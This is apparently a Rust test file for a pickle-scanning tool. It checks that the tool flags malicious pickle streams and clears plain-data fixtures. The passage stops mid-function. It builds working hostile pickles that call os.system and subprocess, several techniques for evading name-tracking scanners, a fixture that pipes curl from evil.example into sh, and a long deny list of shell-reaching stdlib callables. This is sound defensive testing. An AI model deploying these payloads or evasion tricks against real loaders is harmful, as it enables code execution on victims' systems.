//! `scan`: what a pickle names and calls, classed. Each bypass family that defeats a
//! name-tracking scanner is a test here; so is every group of plain-data fixtures, which
//! must never raise an alarm.

use std::path::Path;

use assert_cmd::Command;
use picklegraph::scan::{scan, scan_file, Class, Detail, FileScan, FindingKind, Mode, Verdict};
use picklegraph::{load_with, LoadOptions};

use crate::common;

/// Every finding of the first pickle, as `(offset, class, text)`.
fn findings(stream: &[u8]) -> Vec<(u64, Class, String)> {
    let pickle = load_with(stream, &LoadOptions::scanning()).unwrap();
    scan(&pickle)
        .into_iter()
        .map(|f| (f.offset, f.class, f.text))
        .collect()
}

/// The class and text of every finding whose text is `text`.
fn class_of(stream: &[u8], text: &str) -> Class {
    let found = findings(stream);
    found
        .iter()
        .find(|(_, _, t)| t == text)
        .map(|(_, class, _)| *class)
        .unwrap_or_else(|| panic!("no finding {text:?} in {found:#?}"))
}

fn verdict(stream: &[u8]) -> Verdict {
    FileScan::of(stream, &LoadOptions::scanning(), false).verdict()
}

/// `SHORT_BINUNICODE text`.
fn s(text: &str) -> Vec<u8> {
    let mut out = vec![0x8c, text.len() as u8];
    out.extend(text.as_bytes());
    out
}

fn cat(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

#[test]
fn the_classic_os_system_reduce_is_listed_with_offsets_and_reasons() {
    let stream = b"cos\nsystem\n(S'curl http://evil.example/x.sh | sh'\ntR.";
    assert_eq!(
        findings(stream),
        [
            (0, Class::Dangerous, "os.system".to_string()),
            (
                51,
                Class::Dangerous,
                "os.system('curl http://evil.example/x.sh | sh')".to_string()
            ),
        ]
    );
    let scan = FileScan::of(stream, &LoadOptions::scanning(), false);
    let mut text = Vec::new();
    scan.write_text_with(&mut text, Detail::Verbose).unwrap();
    insta::assert_snapshot!(String::from_utf8(text).unwrap());
    let mut grouped = Vec::new();
    scan.write_text(&mut grouped).unwrap();
    insta::assert_snapshot!("os_system_grouped", String::from_utf8(grouped).unwrap());
}

#[test]
fn long_arguments_are_shortened_to_head_and_tail() {
    let command = format!("curl http://evil.example/{} | sh", "a".repeat(200));
    let stream = cat(&[
        b"\x80\x04",
        &s("os"),
        &s("system"),
        b"\x93X",
        &(command.len() as u32).to_le_bytes(),
        command.as_bytes(),
        b"\x85R.",
    ]);
    let text = &findings(&stream)[1].2;
    assert!(
        text.starts_with("os.system('curl http://evil.example/aaaa"),
        "{text}"
    );
    assert!(text.ends_with("aaaa | sh')"), "{text}");
    assert!(text.contains('…') && text.chars().count() < 100, "{text}");
}

// ---- bypass family: the memo --------------------------------------------------------

#[test]
fn memo_filled_by_put_and_memoize_is_read_as_the_machine_reads_it() {
    // BINPUT 0 'posix', then MEMOIZE 'math': MEMOIZE stores at len(memo) = 1, not at 0.
    // A scanner that numbers MEMOIZEs on their own reads slot 0 as 'math' and sees
    // math.system; the unpickler imports posix.system.
    let stream = cat(&[
        b"\x80\x04",
        &s("posix"),
        b"q\x000",
        &s("math"),
        b"\x940h\x00",
        &s("system"),
        b"\x93",
        &s("id"),
        b"\x85R.",
    ]);
    assert_eq!(class_of(&stream, "posix.system"), Class::Dangerous);
    assert_eq!(class_of(&stream, "posix.system('id')"), Class::Dangerous);
}

#[test]
fn memoize_after_pop_memoizes_the_stack_top_not_the_last_string_read() {
    // 'os', 'math', POP, MEMOIZE: the memo gets 'os'. A scanner that memoizes the
    // previous opcode's argument records nothing (POP has none) and loses the name.
    let stream = cat(&[
        b"\x80\x04",
        &s("os"),
        &s("math"),
        b"0\x94",
        &s("system"),
        b"\x93",
        &s("id"),
        b"\x85R.",
    ]);
    assert_eq!(class_of(&stream, "os.system('id')"), Class::Dangerous);
}

#[test]
fn a_put_that_overwrites_a_slot_is_seen_as_overwritten() {
    // 'json' PUT 0, 'subprocess' PUT 0 again, GET 0: the second value wins.
    let stream = cat(&[
        b"\x80\x02",
        &s("json"),
        b"p0\n0",
        &s("subprocess"),
        b"p0\n0g0\n",
        &s("getoutput"),
        b"\x93",
        &s("id"),
        b"\x85R.",
    ]);
    assert_eq!(
        class_of(&stream, "subprocess.getoutput('id')"),
        Class::Dangerous
    );
}

#[test]
fn a_call_hidden_in_a_discarded_memo_slot_is_still_listed() {
    // The call is memoized and popped; nothing reachable from the root refers to it.
    let stream = cat(&[b"cos\nsystem\n(S'id'\ntR\x940N."]);
    assert_eq!(class_of(&stream, "os.system('id')"), Class::Dangerous);
    let pickle = load_with(&stream, &LoadOptions::scanning()).unwrap();
    assert_eq!(pickle.root(), picklegraph::Value::None);
}

// ---- bypass family: INST and OBJ instead of GLOBAL -----------------------------------

#[test]
fn inst_names_and_calls_its_class() {
    let stream = b"(S'id'\nios\nsystem\n.";
    assert_eq!(
        findings(stream),
        [
            (7, Class::Dangerous, "os.system".to_string()),
            (7, Class::Dangerous, "os.system('id')".to_string()),
        ]
    );
}

#[test]
fn obj_calls_a_class_taken_from_the_stack() {
    let stream = cat(&[
        b"\x80\x04(",
        &s("subprocess"),
        &s("Popen"),
        b"\x93",
        &s("id"),
        b"o.",
    ]);
    assert_eq!(
        class_of(&stream, "subprocess.Popen('id')"),
        Class::Dangerous
    );
}

#[test]
fn newobj_of_a_dangerous_class_is_dangerous() {
    let stream = cat(&[
        b"\x80\x04",
        &s("subprocess"),
        &s("Popen"),
        b"\x93",
        &s("id"),
        b"\x85\x81.",
    ]);
    assert_eq!(
        class_of(&stream, "subprocess.Popen.__new__(subprocess.Popen, 'id')"),
        Class::Dangerous
    );
}

// ---- bypass family: a string turned into any callable ---------------------------------

/// `outer(inner_module.inner_name(arg))(call_arg)`: a callable computed from a string,
/// then called.
fn indirect(module: &str, name: &str, arg: &[u8], call_arg: &str) -> Vec<u8> {
    cat(&[
        b"\x80\x04",
        &s(module),
        &s(name),
        b"\x93",
        arg,
        b"R",
        &s(call_arg),
        b"\x85R.",
    ])
}

#[test]
fn importlib_pkgutil_and_pydoc_resolve_names_and_are_dangerous() {
    for (module, name, target) in [
        ("importlib", "import_module", "os"),
        ("pkgutil", "resolve_name", "os:system"),
        ("pydoc", "locate", "os.system"),
        ("builtins", "__import__", "os"),
    ] {
        let stream = indirect(module, name, &cat(&[&s(target), b"\x85"]), "id");
        let found = findings(&stream);
        assert_eq!(found[0].1, Class::Dangerous, "{module}.{name}: {found:#?}");
        assert_eq!(found[1].2, format!("{module}.{name}('{target}')"));
        // Calling what came back: a computed callable, dangerous whatever it is.
        assert_eq!(found[2].1, Class::Dangerous);
        assert!(
            found[2]
                .2
                .starts_with(&format!("{module}.{name}('{target}')('id')")),
            "{}",
            found[2].2
        );
    }
}

#[test]
fn getattr_attrgetter_and_methodcaller_are_dangerous() {
    // getattr(__import__('os'), 'system')('id')
    let getattr = cat(&[
        b"\x80\x04",
        &s("builtins"),
        &s("getattr"),
        b"\x93",
        &s("builtins"),
        &s("__import__"),
        b"\x93",
        &s("os"),
        b"\x85R",
        &s("system"),
        b"\x86R",
        &s("id"),
        b"\x85R.",
    ]);
    let found = findings(&getattr);
    assert!(found.iter().all(|f| f.1 == Class::Dangerous), "{found:#?}");
    assert_eq!(
        found.last().unwrap().2,
        "builtins.getattr(builtins.__import__('os'), 'system')('id')"
    );
    for (name, arg) in [("attrgetter", "system"), ("methodcaller", "system")] {
        for module in ["operator", "_operator"] {
            let stream = indirect(module, name, &cat(&[&s(arg), b"\x85"]), "unused");
            // Building an attrgetter runs nothing; calling what the pickle built is a
            // computed call, dangerous. methodcaller is dangerous from the start.
            let built = class_of(&stream, &format!("{module}.{name}('{arg}')"));
            assert_eq!(
                built == Class::Dangerous,
                name == "methodcaller",
                "{module}.{name}"
            );
            assert_eq!(
                class_of(&stream, &format!("{module}.{name}('{arg}')('unused')")),
                Class::Dangerous
            );
            assert_eq!(verdict(&stream), Verdict::Dangerous);
        }
    }
}

#[test]
fn marshal_code_objects_and_nested_pickles_are_dangerous() {
    let nested = b"cos\nsystem\n(S'id'\ntR.";
    let bytes_arg = |payload: &[u8]| cat(&[b"C", &[payload.len() as u8], payload, b"\x85"]);
    for (module, name) in [
        ("pickle", "loads"),
        ("_pickle", "loads"),
        ("cPickle", "loads"),
        ("dill", "loads"),
        ("marshal", "loads"),
        ("torch", "load"),
        ("torch.serialization", "load"),
        ("torch.storage", "_load_from_bytes"),
        ("numpy", "load"),
        ("joblib", "load"),
        ("pandas", "read_pickle"),
        ("types", "CodeType"),
        ("types", "FunctionType"),
    ] {
        let stream = cat(&[
            b"\x80\x04",
            &s(module),
            &s(name),
            b"\x93",
            &bytes_arg(nested),
            b"R.",
        ]);
        let found = findings(&stream);
        assert!(
            found.iter().all(|f| f.1 == Class::Dangerous),
            "{module}.{name}: {found:#?}"
        );
        assert!(
            found[1].2.contains(&format!(".{name}(b\"cos\\nsystem")),
            "{}",
            found[1].2
        );
    }
}

#[test]
fn a_stack_global_whose_operands_are_not_strs_is_dangerous() {
    // STACK_GLOBAL(str('os'), 'system'): str() is safe, and its result is a computed
    // module name, which only an attack writes.
    let stream = cat(&[
        b"\x80\x04",
        &s("builtins"),
        &s("str"),
        b"\x93",
        &s("os"),
        b"\x85R",
        &s("system"),
        b"\x93",
        &s("id"),
        b"\x85R.",
    ]);
    let pickle = load_with(&stream, &LoadOptions::scanning()).unwrap();
    let found = scan(&pickle);
    assert_eq!(
        (found[0].class, found[0].text.as_str()),
        (Class::Safe, "builtins.str")
    );
    assert_eq!(
        (found[1].class, found[1].text.as_str()),
        (Class::Safe, "builtins.str('os')")
    );
    assert_eq!(found[2].class, Class::Dangerous);
    assert_eq!(
        found[2].text,
        "getattr(__import__(builtins.str('os')), 'system')"
    );
    assert!(
        found[2]
            .reason
            .contains("not plain strs (module: the result of the call at offset"),
        "{}",
        found[2].reason
    );
    assert_eq!(found[3].class, Class::Dangerous);
    // Operands of a known type other than str (an int, a tuple): both of CPython's
    // unpicklers refuse them before importing anything, so the file is malformed.
    for operands in [cat(&[b"K\x01", &s("x")]), cat(&[&s("os"), b")"])] {
        let stream = cat(&[b"\x80\x04", &operands, b"\x93."]);
        let error = load_with(&stream, &LoadOptions::scanning()).unwrap_err();
        assert!(
            error.to_string().contains("STACK_GLOBAL requires str"),
            "{error}"
        );
        let file = FileScan::of(&stream, &LoadOptions::scanning(), false);
        assert_eq!(file.verdict(), Verdict::Malformed);
    }
}

// ---- bypass family: BUILD on a module or class ----------------------------------------

#[test]
fn build_on_a_global_is_dangerous_even_when_the_global_is_safe() {
    // collections.abc is a module reached as an attribute; BUILD sets Mapping on it,
    // and a later STACK_GLOBAL of collections.abc.Mapping reads the planted value.
    let stream = cat(&[
        b"\x80\x04",
        &s("collections"),
        &s("abc"),
        b"\x93}",
        &s("Mapping"),
        &s("collections"),
        &s("OrderedDict"),
        b"\x93sb0",
        &s("collections.abc"),
        &s("Mapping"),
        b"\x93)R.",
    ]);
    let pickle = load_with(&stream, &LoadOptions::scanning()).unwrap();
    let found = scan(&pickle);
    let build = found
        .iter()
        .find(|f| f.kind == FindingKind::GlobalMutation)
        .expect("a BUILD finding");
    assert_eq!(build.class, Class::Dangerous);
    assert_eq!(
        build.text,
        "collections.abc.__setstate__({'Mapping': collections.OrderedDict})"
    );
    assert!(
        build
            .reason
            .starts_with("BUILD sets attributes on collections.abc"),
        "{}",
        build.reason
    );
    assert_eq!(build.offset, found[0].offset);
    // On a class that is safe to call:
    let stream = cat(&[
        b"\x80\x04",
        &s("collections"),
        &s("OrderedDict"),
        b"\x93N}",
        &s("__reduce_ex__"),
        b"K\x01s\x86b.",
    ]);
    assert_eq!(verdict(&stream), Verdict::Dangerous);
    assert_eq!(class_of(&stream, "collections.OrderedDict"), Class::Safe);
}

#[test]
fn setitems_on_a_module_level_dict_is_dangerous() {
    // sys.modules['json'] = posix: sys is dangerous on its own, and so is the change.
    let stream = cat(&[
        b"\x80\x04",
        &s("sys"),
        &s("modules"),
        b"\x93",
        &s("json"),
        &s("posix"),
        &s("getcwd"),
        b"\x93s.",
    ]);
    let pickle = load_with(&stream, &LoadOptions::scanning()).unwrap();
    let kinds: Vec<(FindingKind, Class)> =
        scan(&pickle).iter().map(|f| (f.kind, f.class)).collect();
    assert!(
        kinds.contains(&(FindingKind::GlobalMutation, Class::Dangerous)),
        "{kinds:?}"
    );
}

#[test]
fn dotted_names_into_python_internals_are_dangerous() {
    for name in [
        "OrderedDict.__init__.__globals__",
        "OrderedDict.__class__",
        "OrderedDict.__subclasses__",
    ] {
        let stream = cat(&[b"\x80\x04", &s("collections"), &s(name), b"\x93."]);
        assert_eq!(findings(&stream)[0].1, Class::Dangerous, "{name}");
    }
}

// ---- bypass family: shell-running corners of the stdlib -----------------------------

#[test]
fn stdlib_corners_that_reach_a_shell_are_dangerous() {
    for (module, name) in [
        ("mailcap", "findmatch"),
        ("pdb", "run"),
        ("pdb", "Pdb.run"),
        ("bdb", "Bdb.run"),
        ("runpy", "_run_code"),
        ("runpy", "run_path"),
        ("timeit", "timeit"),
        ("cProfile", "run"),
        ("profile", "Profile.runctx"),
        ("trace", "Trace.runctx"),
        ("code", "InteractiveInterpreter.runsource"),
        ("doctest", "debug_script"),
        ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
        ("pydoc", "pipepager"),
        ("webbrowser", "open"),
        ("_posixsubprocess", "fork_exec"),
        ("asyncio.subprocess", "create_subprocess_shell"),
        ("ctypes", "CDLL"),
        ("uuid", "_get_command_stdout"),
        ("platform", "popen"),
        ("distutils.spawn", "spawn"),
        ("ensurepip", "_run_pip"),
        ("lib2to3.pgen2.grammar", "Grammar.loads"),
        ("numpy.testing._private.utils", "runstring"),
        ("numpy.f2py.crackfortran", "getlincoef"),
        ("torch.utils.collect_env", "run"),
        ("torch.jit.unsupported_tensor_ops", "execWrapper"),
        ("tkinter", "Tcl"),
        ("rlcompleter", "Completer"),
        ("antigravity", "geohash"),
        ("shutil", "rmtree"),
        ("tempfile", "mkdtemp"),
        ("socket", "create_connection"),
        ("http.client", "HTTPSConnection"),
        ("urllib.request", "urlopen"),
        ("logging.config", "listen"),
        ("multiprocessing.util", "spawnv_passfds"),
        ("builtins", "exec"),
        ("builtins", "open"),
        ("builtins", "breakpoint"),
        ("__builtin__", "execfile"),
        ("__builtin__", "apply"),
        ("sys", "exit"),
        ("copyreg", "add_extension"),
        ("somepackage.tools", "system"),
        ("yaml", "unsafe_load"),
    ] {
        let stream = cat(&[
            b"\x80\x04",
            &s(module),
            &s(name),
            b"\x93",
            &s("x"),
            b"\x85R.",
        ]);
        let found = findings(&stream);
        assert_eq!(found[0].1, Class::Dangerous, "{module}.{name}");
        assert_eq!(found[1].1, Class::Dangerous, "{module}.{name}");
        assert_eq!(verdict(&stream), Verdict::Dangerous);
    }
}

// ---- no false alarms -----------------------------------------------------------------

#[test]
fn folded_builtins_and_python2_names_are_safe() {
    for stream in [
        b"c__builtin__\nset\n((lp0\nI1\naI2\natp1\nRp2\n.".as_slice(),
        b"c__builtin__\nfrozenset\n((lI1\natR.",
        b"\x80\x02c__builtin__\nbytearray\nX\x02\x00\x00\x00ab\x8c\x07latin-1\x86R.",
        b"\x80\x02c_codecs\nencode\nX\x02\x00\x00\x00\xc3\xa9\x8c\x06latin1\x86R.",
        b"ccopy_reg\n_reconstructor\n(c__main__\nC\nc__builtin__\nobject\nNtR.",
        b"c__builtin__\nunicode\n(S'x'\ntR.",
        b"c__builtin__\nxrange\n(I1\nI5\ntR.",
    ] {
        // Judged by the deny list: the __main__ class is not on the allow list.
        let scan = FileScan::of(stream, &LoadOptions::scanning(), false).with_mode(Mode::DenyOnly);
        assert_eq!(
            scan.verdict(),
            Verdict::Clean,
            "{:?}",
            scan.pickles[0].findings
        );
        assert_eq!(scan.counts().dangerous, 0);
    }
}

#[test]
fn a_torch_state_dict_is_safe_to_the_last_finding() {
    // What torch.save writes as data.pkl for an OrderedDict of three tensors with
    // _metadata: protocol 2, GLOBAL, BINPERSID of ('storage', type, key, 'cpu', numel).
    let hex = "800263636f6c6c656374696f6e730a4f726465726564446963740a71002952710128580900000066632e776569676874710263746f7263682e5f7574696c730a5f72656275696c645f74656e736f725f76320a71032828580700000073746f72616765710463746f7263680a466c6f617453746f726167650a71055801000000307106580300000063707571074b06747108514b004b024b038671094b034b0186710a8968002952710b74710c52710d580700000066632e62696173710e6803282868046805580100000031710f68074b02747110514b004b028571114b018571128968002952711374711452711558130000006e756d5f626174636865735f747261636b6564711668032828680463746f7263680a4c6f6e6753746f726167650a7117580100000032711868074b01747119514b0029298968002952711a74711b52711c757d711d58090000005f6d65746164617461711e68002952711f28580000000071207d7121580700000076657273696f6e71224b01735802000000666371237d712468224b01737573622e";
    let stream: Vec<u8> = crate::common::unhex(hex);
    let scan = FileScan::of(&stream, &LoadOptions::scanning(), true);
    let unsafe_findings: Vec<_> = scan.pickles[0]
        .findings
        .iter()
        .filter(|f| f.class != Class::Safe)
        .collect();
    assert!(unsafe_findings.is_empty(), "{unsafe_findings:#?}");
    assert_eq!(scan.verdict(), Verdict::Clean);
    let persistent = scan.pickles[0]
        .findings
        .iter()
        .filter(|f| f.kind == FindingKind::Persistent)
        .count();
    assert_eq!(persistent, 3);
}

/// The fixture groups that hold only plain data: numpy, pandas, Python 2 data, CPython's
/// canned DATA pickles, the data/ group and the plain-data stdlib cases.
fn is_plain_data(path: &Path) -> bool {
    let relative = path
        .strip_prefix(common::fixtures())
        .unwrap()
        .to_string_lossy()
        .into_owned();
    let name = relative.rsplit('/').next().unwrap_or_default();
    let group = relative.split('/').next().unwrap_or_default();
    match group {
        "data" | "numpy" | "pandas" | "py2" => true,
        "pickletester" => name.starts_with("DATA"),
        // References to functions and methods, and CPython's own spelling of __new__ with
        // keyword arguments before protocol 4 (functools.partial of getattr): calls, not data.
        "stdlib" => ![
            "bound_method",
            "global_refs",
            "nested_class_instance",
            "partial",
            "newobj_ex.p2",
            "newobj_ex.p3",
        ]
        .iter()
        .any(|n| name.starts_with(n)),
        _ => false,
    }
}

#[test]
fn no_plain_data_fixture_is_dangerous() {
    let fixtures: Vec<_> = common::fixture_pickles()
        .into_iter()
        .filter(|p| is_plain_data(p))
        .collect();
    assert!(
        fixtures.len() > 500,
        "only {} plain-data fixtures",
        fixtures.len()
    );
    let mut alarms = Vec::new();
    for path in &fixtures {
        let bytes = std::fs::read(path).unwrap();
        // Test classes (fixmod, __main__) are not on the allow list: judged by the
        // deny list, nothing here is dangerous.
        let scan = FileScan::of(&bytes, &LoadOptions::scanning(), false).with_mode(Mode::DenyOnly);
        if scan.verdict() != Verdict::Clean {
            alarms.push((path.display().to_string(), scan.verdict()));
        }
    }
    assert!(
        alarms.is_empty(),
        "{} of {} plain-data fixtures raise an alarm: {alarms:#?}",
        alarms.len(),
        fixtures.len()
    );
}

#[test]
fn every_hostile_fixture_is_dangerous() {
    let hostile = common::files_with_suffix(&common::fixtures().join("hostile"), ".pkl");
    assert!(!hostile.is_empty());
    for path in hostile {
        let bytes = std::fs::read(&path).unwrap();
        assert_eq!(
            FileScan::of(&bytes, &LoadOptions::scanning(), false).verdict(),
            Verdict::Dangerous,
            "{}",
            path.display()
        );
    }
}

#[test]
fn code_shipped_by_value_is_dangerous() {
    // cloudpickle and dill ship functions as code objects: loading them makes functions
    // from bytecode, whatever the functions then do.
    for group in ["cloudpickle2", "cloudpickle3", "dill"] {
        for path in common::files_with_suffix(&common::fixtures().join(group), ".pkl") {
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            if name.starts_with("seed_imported") || name.starts_with("seed_main_byref") {
                continue;
            }
            let bytes = std::fs::read(&path).unwrap();
            assert_eq!(
                FileScan::of(&bytes, &LoadOptions::scanning(), false).verdict(),
                Verdict::Dangerous,
                "{}",
                path.display()
            );
        }
    }
}

#[test]
fn names_that_a_terminal_would_obey_are_escaped() {
    // A module name carrying a line break, an escape sequence and a bidi override.
    let stream = cat(&[
        b"\x80\x04",
        &s("os\n\x1b[2J\u{202e}"),
        &s("system"),
        b"\x93.",
    ]);
    let pickle = load_with(&stream, &LoadOptions::scanning()).unwrap();
    let found = scan(&pickle);
    assert_eq!(found[0].text, "os\\n\\x1b[2J\\u202e.system");
    assert_eq!(found[0].name.as_deref(), Some("os\n\x1b[2J\u{202e}.system"));
    assert!(
        !found[0].reason.contains('\n') && !found[0].reason.contains('\x1b'),
        "{}",
        found[0].reason
    );
}

// ---- the whole file ------------------------------------------------------------------

#[test]
fn every_pickle_of_a_file_is_scanned() {
    let stream = cat(&[b"\x80\x04K\x01.", b"\x80\x04N.", b"cos\nsystem\n."]);
    let scan = FileScan::of(&stream, &LoadOptions::scanning(), false);
    assert_eq!(scan.pickles.len(), 3);
    assert_eq!(
        (scan.pickles[2].start, scan.pickles[2].findings[0].offset),
        (9, 9)
    );
    assert_eq!(scan.verdict(), Verdict::Dangerous);
}

#[test]
fn a_malformed_pickle_lists_what_was_read_and_is_never_clean() {
    // A safe global, then garbage.
    let stream = cat(&[
        b"\x80\x04",
        &s("collections"),
        &s("OrderedDict"),
        b"\x93\xff",
    ]);
    let scan = FileScan::of(&stream, &LoadOptions::scanning(), false);
    assert_eq!(scan.verdict(), Verdict::Malformed);
    assert_eq!(scan.pickles[0].findings.len(), 1);
    assert_eq!(
        scan.pickles[0].error.as_ref().unwrap().to_string(),
        "offset 29 (no opcode): invalid load key 0xff"
    );
    // A dangerous call, then a truncation: dangerous wins.
    let stream = b"cos\nsystem\n(S'id'\ntR";
    assert_eq!(verdict(stream), Verdict::Dangerous);
    assert_eq!(verdict(b""), Verdict::Malformed);
    // A benign pickle followed by bytes that are no pickle is clean: pickle.loads
    // ignores them, and the scan lists them as trailing.
    let scan = FileScan::of(b"K\x01.\x00", &LoadOptions::scanning(), false);
    assert_eq!(scan.verdict(), Verdict::Clean);
    assert_eq!(
        (
            scan.pickles[1].trailing,
            scan.pickles[1].start,
            scan.pickles[1].end
        ),
        (true, 3, 4)
    );
    let mut text = Vec::new();
    scan.write_text(&mut text).unwrap();
    let text = String::from_utf8(text).unwrap();
    assert!(
        text.contains(
            "1 byte after the last STOP is not a pickle; pickle.loads ignores it (bytes 3..4)"
        ),
        "{text}"
    );
    assert!(text.ends_with("in 1 pickle\n"), "{text}");
}

#[test]
fn what_trailing_bytes_would_import_still_counts() {
    // A loop of pickle.load calls runs the tail's opcodes up to its error: GLOBAL
    // 'os system' is imported before the missing STOP is noticed.
    for tail in [
        &b"cos\nsystem\n"[..],
        b"cos\nsystem\n(S'id'\ntR",
        b"\x80\x04\x8c\x02os\x8c\x06system\x93",
    ] {
        let stream = cat(&[b"K\x01.", tail]);
        let scan = scan_file(&stream, false);
        assert!(scan.pickles[1].trailing, "{tail:?}");
        assert_eq!(scan.verdict(), Verdict::Dangerous, "{tail:?}");
        assert_eq!(verdict(&stream), Verdict::Dangerous, "{tail:?}");
    }
    // A malformed first pickle is still malformed: there is no STOP for the bytes to follow.
    assert_eq!(scan_file(b"K\x01K", false).verdict(), Verdict::Malformed);
    assert!(!scan_file(b"K\x01K", false).pickles[0].trailing);
}

#[test]
fn a_call_off_the_allow_list_fails_unless_deny_only() {
    let stream = b"cfixmod\nPoint\n)R.";
    assert_eq!(class_of(stream, "fixmod.Point()"), Class::Unknown);
    assert_eq!(verdict(stream), Verdict::NotAllowed);
    let scan = FileScan::of(stream, &LoadOptions::scanning(), false);
    assert_eq!(
        scan.clone().with_mode(Mode::DenyOnly).verdict(),
        Verdict::Clean
    );
    assert_eq!(scan.with_mode(Mode::Strict).verdict(), Verdict::NotAllowed);
}

#[test]
fn a_name_only_referenced_is_judged_by_its_module() {
    // A list holding the global numpy.float64, never called: importing numpy is harmless.
    let numpy = b"(cnumpy\nfloat64\nl.";
    assert_eq!(verdict(numpy), Verdict::Clean);
    // A name from a module nobody knows: importing it runs its code.
    assert_eq!(verdict(b"(cin_house\nthing\nl."), Verdict::NotAllowed);
    // antigravity opens a browser when imported.
    assert_eq!(verdict(b"(cantigravity\nx\nl."), Verdict::Dangerous);
    // Under --strict, a referenced name must be on the allow list too.
    let scan = FileScan::of(b"(cnumpy\nbogus\nl.", &LoadOptions::scanning(), false);
    assert_eq!(scan.clone().verdict(), Verdict::Clean);
    assert_eq!(scan.with_mode(Mode::Strict).verdict(), Verdict::NotAllowed);
}

#[test]
fn getattr_of_a_named_class_with_a_constant_name_is_that_attribute() {
    // zoneinfo.ZoneInfo._unpickle('UTC', 1), through getattr, as zoneinfo pickles itself.
    let stream = b"\x80\x04cbuiltins\ngetattr\nczoneinfo\nZoneInfo\n\x8c\x09_unpickle\x86R\x8c\x03UTC\x4b\x01\x86R.";
    assert_eq!(verdict(stream), Verdict::Clean);
    // A computed attribute name, or a dunder, stays dangerous.
    let dunder = b"\x80\x04cbuiltins\ngetattr\nczoneinfo\nZoneInfo\n\x8c\x08__init__\x86R.";
    assert_eq!(verdict(dunder), Verdict::Dangerous);
    // getattr used any other way (here, kept in a list) is dangerous.
    let kept = b"\x80\x04cbuiltins\ngetattr\n\x94(h\x00l0h\x00czoneinfo\nZoneInfo\n\x8c\x09_unpickle\x86R.";
    assert_eq!(verdict(kept), Verdict::Dangerous);
}

#[test]
fn builtins_type_is_safe_with_one_argument_only() {
    let one = b"\x80\x02c__builtin__\ntype\nN\x85R.";
    assert_eq!(class_of(one, "builtins.type(None)"), Class::Safe);
    let three = b"\x80\x02c__builtin__\ntype\nX\x01\x00\x00\x00X)}\x87R.";
    assert_eq!(
        class_of(three, "builtins.type('X', (), {})"),
        Class::Dangerous
    );
}

#[test]
fn strict_passes_type_only_of_the_three_constants_pickle_saves_that_way() {
    let strict = |stream: &[u8]| {
        FileScan::of(stream, &LoadOptions::scanning(), false)
            .with_mode(Mode::Strict)
            .verdict()
    };
    // pickle.dumps([type(None), type(...), type(NotImplemented)], protocol=2)
    let three_types = b"\x80\x02]q\x00(c__builtin__\ntype\nq\x01N\x85q\x02Rq\x03h\x01c__builtin__\nEllipsis\nq\x04\x85q\x05Rq\x06h\x01c__builtin__\nNotImplemented\nq\x07\x85q\x08Rq\te.";
    assert_eq!(strict(three_types), Verdict::Clean);
    // type of anything else, or type kept for later, is counted in strict mode.
    let of_an_int = b"\x80\x02c__builtin__\ntype\nK\x01\x85R.";
    assert_eq!(strict(of_an_int), Verdict::NotAllowed);
    let kept = b"\x80\x02c__builtin__\ntype\nq\x00N\x85Rh\x00\x86.";
    assert_eq!(strict(kept), Verdict::NotAllowed);
}

#[test]
fn python2_strings_are_read_as_latin1_so_nothing_hides_behind_an_encoding() {
    // S'\xe9' fails under the default ASCII, which would stop the scan before the call.
    let stream = b"(S'\xe9'\np0\n0cos\nsystem\n(S'id'\ntR.";
    assert_eq!(verdict(stream), Verdict::Dangerous);
}

// ---- the command ---------------------------------------------------------------------

fn picklegraph() -> Command {
    Command::cargo_bin("picklegraph").unwrap()
}

fn temp_file(bytes: &[u8]) -> tempfile::NamedTempFile {
    let mut file = tempfile::NamedTempFile::new().unwrap();
    std::io::Write::write_all(&mut file, bytes).unwrap();
    file
}

#[test]
fn the_command_exits_3_on_danger_4_off_the_allow_list_1_on_malformed_and_0_otherwise() {
    let dangerous = temp_file(b"cos\nsystem\n(S'id'\ntR.");
    let malformed = temp_file(b"K\x01");
    let clean = temp_file(b"\x80\x04K\x01.");
    let unknown = temp_file(b"cfixmod\nPoint\n)R.");
    picklegraph()
        .args(["scan"])
        .arg(dangerous.path())
        .assert()
        .code(3);
    picklegraph()
        .args(["scan"])
        .arg(malformed.path())
        .assert()
        .code(1);
    picklegraph()
        .args(["scan"])
        .arg(clean.path())
        .assert()
        .code(0);
    picklegraph()
        .args(["scan"])
        .arg(unknown.path())
        .assert()
        .code(4)
        .stdout(predicates::str::contains("not on the allow list"));
    picklegraph()
        .args(["scan", "--deny-only"])
        .arg(unknown.path())
        .assert()
        .code(0);
    picklegraph()
        .args(["scan", "--strict"])
        .arg(unknown.path())
        .assert()
        .code(4);
    // A file that cannot be read never hides a dangerous one.
    picklegraph()
        .args(["scan", "/no/such/file"])
        .arg(dangerous.path())
        .assert()
        .code(3);
    picklegraph()
        .args(["scan"])
        .arg(clean.path())
        .arg(dangerous.path())
        .arg(malformed.path())
        .assert()
        .code(3);
    picklegraph()
        .args(["scan"])
        .arg(clean.path())
        .arg(malformed.path())
        .assert()
        .code(1);
    picklegraph()
        .args(["scan", "/no/such/file"])
        .assert()
        .code(2);
}

#[test]
fn the_command_writes_json_for_tools() {
    let dangerous = temp_file(b"cos\nsystem\n(S'id'\ntR.");
    let clean = temp_file(b"\x80\x04K\x01.");
    let output = picklegraph()
        .args(["scan", "--json"])
        .arg(dangerous.path())
        .arg(clean.path())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(3));
    let text = String::from_utf8(output.stdout).unwrap();
    let documents: Vec<serde_json::Value> = serde_json::Deserializer::from_str(&text)
        .into_iter()
        .map(Result::unwrap)
        .collect();
    assert_eq!(documents.len(), 2);
    assert_eq!(documents[0]["verdict"], "dangerous");
    assert_eq!(documents[0]["file"], dangerous.path().display().to_string());
    let call = &documents[0]["pickles"][0]["findings"][1];
    assert_eq!(call["text"], "os.system('id')");
    assert_eq!(call["kind"], "call");
    assert_eq!(call["class"], "dangerous");
    assert_eq!(call["offset"], 19);
    assert_eq!(documents[1]["verdict"], "clean");
    assert_eq!(documents[1]["counts"]["dangerous"], 0);
}

#[test]
fn the_command_reads_standard_input() {
    picklegraph()
        .args(["scan", "-"])
        .write_stdin(b"cos\nsystem\n.".as_slice())
        .assert()
        .code(3)
        .stdout(predicates::str::contains(
            "dangerous    offset 0: os.system",
        ));
}

/// `torch.storage._load_from_bytes(payload)`, as `pickle.dumps` of a tensor writes it.
fn load_from_bytes(payload: &[u8]) -> Vec<u8> {
    let mut length = (payload.len() as u32).to_le_bytes().to_vec();
    length.insert(0, b'B'); // BINBYTES
    cat(&[
